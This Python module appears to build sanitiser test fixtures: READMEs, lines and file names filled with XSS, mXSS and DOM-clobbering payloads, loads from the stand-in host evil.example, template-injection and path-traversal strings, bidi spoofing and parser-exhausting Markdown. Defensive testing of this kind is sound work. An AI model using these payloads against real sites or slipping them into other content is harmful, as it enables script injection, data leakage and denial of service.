"""Texts that try to run scripts, to load from elsewhere, or to break out of their place on a page.

Each attack calls `hacked()` or calls EVIL if it works. `readmes()` has 200 READMEs, `lines()` as many short texts for
names of files, licences, keywords and the like.
"""

from collections.abc import Sequence
from itertools import islice, product

COUNT = 200
EVIL = "evil.example"
_SVG = "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='hacked()'/%3E"

HTML = (
    "<script>hacked()</script>",
    "<img src=x onerror=hacked()>",
    "<svg onload=hacked()>",
    "<svg><script>hacked()</script></svg>",
    "<svg><animate onbegin=hacked() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:hacked()'><text y=20>click</text></a></svg>",
    f'<svg><use href="{_SVG}#x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=hacked()></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hacked()>",
    '<noscript><p title="</noscript><img src=x onerror=hacked()>">',
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    '<iframe src="javascript:parent.hacked()"></iframe>',
    '<object data="javascript:hacked()"></object><embed src="javascript:hacked()">',
    f'<form action="https://{EVIL}/"><input name="csrf"><button formaction="javascript:hacked()">Sign in</button>',
    '<a href="javascript:hacked()">click</a>',
    '<a href="java&#9;script:hacked()">click</a>',
    '<a href=" &#14; javascript:hacked()">click</a>',
    '<a href="data:text/html,<script>hacked()</script>">click</a>',
    f'<base href="https://{EVIL}/">',
    f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/">',
    f'<link rel="stylesheet" href="https://{EVIL}/x.css">',
    f'<style>@import "https://{EVIL}/x.css"; body {{ display: none }}</style>',
    f'<p style="position:fixed;inset:0;background:url(https://{EVIL}/x.png)">over everything</p>',
    f'<img src="https://{EVIL}/pixel.png" srcset="//{EVIL}/2.png 2x">',
    f'<video poster="https://{EVIL}/a.png" autoplay><source src=x onerror=hacked()></video>',
    "<details open ontoggle=hacked()><summary>x</summary></details>",
    "<body onload=hacked()>",
    "<input autofocus onfocus=hacked()>",
    "<xss id=x tabindex=1 autofocus onfocus=hacked()></xss>",
    "<template shadowrootmode=open><img src=x onerror=hacked()></template>",
    '<img name="cookie"><form id="main" name="getElementById"><input id="q" name="q">',
    '</bdi></p></div></article></main></body></html><h1>Other</h1><main id="main">',
    "<!--><script>hacked()</script>-->",
    "<![CDATA[<script>hacked()</script>]]>",
    "</title></textarea></style></script><script>hacked()</script>",
    f'<a href="https://{EVIL}" target="_blank" ping="https://{EVIL}/ping" onclick="hacked()">click</a>',
    "<dialog open>Your session has ended</dialog>",
    '"><script>hacked()</script>',
    "' onmouseover='hacked()' x='",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${hacked()}`${hacked()}`",
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200f",
)
"""Attacks in HTML."""

MARKDOWN = (
    "[click](javascript:hacked())",
    "[click](JaVaScRiPt:hacked())",
    "[click](&#106;avascript:hacked())",
    "[click](javascript&colon;hacked())",
    "[click](data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==)",
    "[click](vbscript:hacked)",
    "![picture](javascript:hacked())",
    f"![picture](https://{EVIL}/pixel.png)",
    f"![picture](//{EVIL}/pixel.png)",
    f"![picture]({_SVG.replace(' ', '%20')})",
    "<javascript:hacked()>",
    "[click]\n\n[click]: javascript:hacked()",
    f"[click](//{EVIL}/)",
    f"[click](\\\\\\\\{EVIL})",
    "[click](/logout) [click](../../../../../../etc/passwd) [click](%2e%2e/%2e%2e/account)",
    '[click](x "onclick=hacked() \\" onclick=hacked()")',
    '```"><script>hacked()</script>\ncode\n```',
    "# main\n\n# q\n\n# __proto__\n\n# constructor",
    "[a](#main)<a id=main></a><a name=q></a>",
    "> " * 400 + "deep",
    "[" * 3000 + "x" + "](y)" * 3000,
    "*a_" * 3000,
    "|" * 500 + "\n" + "|-" * 500 + "\n" + "|x" * 500,
    "\n".join("  " * depth + "- x" for depth in range(200)),
    "&#0;&#x110000;&#xD800;\x08\x1b[31mred\x1b[0m",
)
"""Attacks in Markdown, and texts that are slow for careless parsers."""

PLACES = (
    "{}",
    "# {}",
    "text {} text",
    "> {}",
    "- {}",
    "| a |\n|---|\n| {} |",
    "[{}](x)",
    "![{}](x.png)",
    "<div>\n\n{}\n\n</div>",
)
"""Where an attack stands in a README."""


def readmes() -> list[str]:
    """COUNT different READMEs: each attack by itself, then attacks in each place."""
    whole = [*MARKDOWN, *HTML]
    placed = [place.replace("{}", attack) for place, attack in product(PLACES[1:], _placeable())]
    return list(islice(dict.fromkeys([*whole, *_spread(placed)]), COUNT))


def lines() -> list[str]:
    """COUNT attacks in one line without control characters."""
    short = ["".join(c for c in attack if c.isprintable() or c in "\u202e\u2066\u200f")[:200] for attack in HTML]
    return [f"{short[number % len(short)]}{number}" for number in range(COUNT)]


def file_names() -> list[str]:
    """Names of files that a tarball may have: without control characters, slashes and backslashes."""
    return [
        "".join(c for c in line.replace("/", "\u2215") if c.isprintable() and c != "\\").strip(" .") for line in lines()
    ]


def _placeable() -> Sequence[str]:
    return [attack for attack in (*MARKDOWN[:11], *HTML) if "\n" not in attack]


def _spread(texts: Sequence[str]) -> list[str]:
    """The same texts in an order in which neighbours differ in everything."""
    step = 101
    return [texts[index * step % len(texts)] for index in range(len(texts))]
